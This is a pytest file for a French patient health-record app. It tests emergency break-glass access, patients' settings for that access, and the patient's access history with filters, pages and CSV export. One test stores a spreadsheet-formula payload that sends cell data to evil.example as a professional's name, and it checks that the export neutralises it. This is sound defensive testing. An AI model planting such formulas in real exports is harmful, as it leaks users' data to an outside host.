"""Emergency access ("bris de glace") from both sides, and the patient's history: tabs,
filters, pages by sequence number (plain links and htmx), CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

from sqlalchemy import select

from domain import audit
from domain.models import (
    AuditEvent,
    EmergencyAccess,
    Profession,
    Representation,
    Role,
    Sector,
    User,
)
from domain.models.base import utcnow
from domain.notify import Mailer
from extensions import db, keys
from tests.conftest import csrf_from

IDENTITY = {"nir": "288037510802150", "born_day": "14", "born_month": "3", "born_year": "1988"}
REASON = "Patiente inconsciente aux urgences, recherche d’allergies"


def _emails(app):
    return Mailer("", app.config["OUTBOX_DIR"], "x@y").sent()


def _body(message) -> str:
    return message.get_body(("plain",)).get_content()


def _start(client, reason=REASON):
    page = client.get("/pro/urgence").get_data(as_text=True)
    return client.post("/pro/urgence", data={"csrf_token": csrf_from(page), **IDENTITY,
                                              "reason": reason})


def _camille(app) -> User:
    return db.session.scalars(select(User).where(User.login == "camille.martin")).one()


def test_emergency_needs_a_reason_and_is_told_at_once_without_it(signed_in, app):
    with app.app_context():
        other = User(role=Role.PROFESSIONAL, given_name="Inès", family_name="Garnier",
                     profession=Profession.DOCTOR, sector=Sector.CARE, rpps="10003456782",
                     email="ines.garnier@example.org")
        db.session.add(other)
        db.session.flush()
        _camille(app).attending_doctor_id = other.id
        db.session.commit()
    doctor = signed_in("dr.bernard")
    for reason, words in (("", "Donnez la raison"), ("urgence", "au moins 10")):
        response = _start(doctor, reason)
        assert response.status_code == 422 and words in response.get_data(as_text=True)
    response = _start(doctor)
    assert response.status_code == 303
    page = doctor.get(response.headers["Location"]).get_data(as_text=True)
    assert "Accès en urgence en cours" in page
    sent = {message["To"]: _body(message) for message in _emails(app)}
    assert set(sent) == {"camille.martin@example.org", "ines.garnier@example.org"}
    assert all("inconsciente" not in body for body in sent.values())  # never the reason
    history = signed_in("camille.martin").get("/acces/historique").get_data(as_text=True)
    assert "Raison donnée : " + REASON.replace("’", "&#39;") in history or REASON in history
    assert "En urgence" in history


def test_emergency_follows_the_patients_settings(signed_in, app):
    camille = signed_in("camille.martin")
    page = camille.get("/acces/urgence").get_data(as_text=True)
    assert camille.post("/acces/urgence", data={
        "csrf_token": csrf_from(page), "samu": "oui", "others": "non",
        "hidden": "non"}).status_code == 303
    response = _start(signed_in("dr.bernard"))
    assert response.status_code == 422
    assert "ne permettent pas" in response.get_data(as_text=True)
    with app.app_context():
        outcomes = [event.outcome for event in db.session.scalars(select(AuditEvent).where(
            AuditEvent.action == "care.emergency_started"))]
        assert outcomes == ["denied"] and not db.session.scalars(select(EmergencyAccess)).all()
        bernard = db.session.scalars(select(User).where(User.login == "dr.bernard")).one()
        bernard.samu = True  # the SAMU is still allowed
        db.session.commit()
    assert _start(signed_in("dr.bernard")).status_code == 303


def test_a_representative_sees_and_sets_the_represented_persons_settings(signed_in, app):
    """In Léo's space, the form shows Léo's emergency settings, not his parent's."""
    with app.app_context():
        camille = db.session.scalars(select(User).where(User.login == "camille.martin")).one()
        leo_id = db.session.scalars(select(Representation.represented_id).where(
            Representation.representative_id == camille.id)).one()
    client = signed_in("camille.martin")
    page = client.get(f"/espace/{leo_id}/acces/urgence").get_data(as_text=True)
    assert client.post(f"/espace/{leo_id}/acces/urgence", data={
        "csrf_token": csrf_from(page), "samu": "non", "others": "oui",
        "hidden": "non"}).status_code == 303
    checked = re.compile(r'name="samu" value="(oui|non)"[^>]*checked')
    assert checked.findall(client.get(f"/espace/{leo_id}/acces/urgence").get_data(
        as_text=True)) == ["non"]
    assert checked.findall(client.get("/acces/urgence").get_data(as_text=True)) == ["oui"]
    with app.app_context():
        assert db.session.get(User, leo_id).emergency_samu is False
        assert db.session.get(User, camille.id).emergency_samu is True


def test_an_emergency_access_ends(signed_in, app):
    doctor = signed_in("dr.bernard")
    patient_page = _start(doctor).headers["Location"]
    assert doctor.get(patient_page).status_code == 200
    with app.app_context():
        access = db.session.scalars(select(EmergencyAccess)).one()
        access.ends_at = utcnow() - timedelta(minutes=1)
        db.session.commit()
    assert doctor.get(patient_page).status_code == 404


def _fill_history(app, count: int) -> None:
    with app.app_context():
        patient = _camille(app)
        doctor = db.session.scalars(select(User).where(User.login == "dr.bernard")).one()
        pharmacist = db.session.scalars(select(User).where(User.login == "pharma.petit")).one()
        for index in range(count):
            who = doctor if index % 2 else pharmacist
            audit.record(db.session, keys.ring, "document.read",
                         actor=audit.Actor(user_id=who.id, acting_as="professional"),
                         subject_id=patient.id, target_type="document",
                         target_id=f"{index:032x}")
        audit.record(db.session, keys.ring, "profile.entry_added",
                     actor=audit.Actor(user_id=patient.id, acting_as="patient"),
                     subject_id=patient.id)
        db.session.commit()


def test_history_tabs_filters_and_pages(signed_in, app):
    _fill_history(app, 30)
    camille = signed_in("camille.martin")
    first = camille.get("/acces/historique").get_data(as_text=True)
    assert first.count("Lecture d’un document") == 25
    assert "Ajout dans le profil" not in first
    more = re.search(r'href="(/acces/historique\?[^"]*avant=\d+[^"]*)"', first).group(1)
    second = camille.get(more.replace("&amp;", "&")).get_data(as_text=True)
    assert second.count("Lecture d’un document") == 5
    fragment = camille.get(more.replace("&amp;", "&"), headers={
        "HX-Request": "true", "HX-Target": "history-more"}).get_data(as_text=True)
    assert "<html" not in fragment and fragment.count("<tr") == 5
    assert "5 actions de plus" in fragment and "data-focus-after-swap" in fragment
    mine = camille.get("/acces/historique?onglet=moi").get_data(as_text=True)
    assert "Ajout dans le profil" in mine and "Lecture d’un document" not in mine
    with app.app_context():
        bernard = db.session.scalars(select(User.id).where(User.login == "dr.bernard")).one()
    only = camille.get(f"/acces/historique?personne={bernard}").get_data(as_text=True)
    table = only[only.index("<table"):only.index("</table>")]
    assert table.count("Lecture d’un document") == 15 and "Sophie Petit" not in table
    assert "Aucune action" in camille.get("/acces/historique?du=2030-01-01").get_data(
        as_text=True)


def test_history_as_csv(signed_in, app):
    _fill_history(app, 30)
    response = signed_in("camille.martin").get("/acces/historique.csv")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:4] == ["Date", "Qui", "Profession", "Action"]
    assert len(rows) == 31 and {row[2] for row in rows[1:]} == {"Médecin", "Pharmacien"}


def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(signed_in, app):
    """A professional named `=HYPERLINK(...)` (written before names were checked, or by
    another system) must not become a live formula in the patient's spreadsheet."""
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Voir le dossier")'
    with app.app_context():
        rogue = User(role=Role.PROFESSIONAL, given_name=formula, family_name="",
                     profession=Profession.DOCTOR, sector=Sector.CARE, rpps="10002345670")
        db.session.add(rogue)
        db.session.flush()
        audit.record(db.session, keys.ring, "document.read", subject_id=_camille(app).id,
                     actor=audit.Actor(user_id=rogue.id, acting_as="professional"))
        db.session.commit()
    response = signed_in("camille.martin").get("/acces/historique.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    (who,) = [row[1] for row in rows[1:] if "HYPERLINK" in row[1]]
    assert who.startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_other_people_never_appear_in_my_history(signed_in, app):
    _fill_history(app, 3)
    with app.app_context():
        stranger = User(role=Role.PATIENT, given_name="Autre", family_name="Personne")
        db.session.add(stranger)
        db.session.flush()
        audit.record(db.session, keys.ring, "document.read", subject_id=stranger.id,
                     actor=audit.Actor(user_id=stranger.id, acting_as="professional"))
        db.session.commit()
    page = signed_in("camille.martin").get("/acces/historique").get_data(as_text=True)
    assert page.count("Lecture d’un document") == 3
